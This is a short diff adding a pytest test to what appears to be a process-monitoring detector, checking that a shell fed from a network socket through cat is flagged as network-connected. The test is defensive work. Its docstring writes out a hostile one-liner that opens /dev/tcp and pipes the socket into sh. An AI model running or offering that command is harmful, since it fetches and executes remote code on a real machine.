@@ -107,3 +107,14 @@ def test_reads_program_from_stdin() -> None:
     ]
     assert all(reads_program_from_stdin(e, a) for e, a in yes)
     assert not any(reads_program_from_stdin(e, a) for e, a in no)
+
+
+def test_a_peer_with_an_internet_socket_on_its_stdio_is_net(tmp_path: Path) -> None:
+    """bash -c 'exec 3<>/dev/tcp/h/p; cat <&3 | sh': cat reads the socket, no connect of its own."""
+    sp = _peers(tmp_path)
+    cat = _exec(11, "/tmp/x1", ["cat"], 1, stdout="pipe", stdout_ino=700)
+    cat["args"]["stdio"].update(stdin="socket", stdin_family="AF_INET", network=["stdin"])
+    sp.on_exec(cat)
+    sh = _exec(12, "/usr/bin/sh", ["sh"], 2, stdin="pipe", stdin_ino=700)
+    sp.on_exec(sh)
+    assert sh["args"]["stdio"]["stdin_peer"]["net"] is True
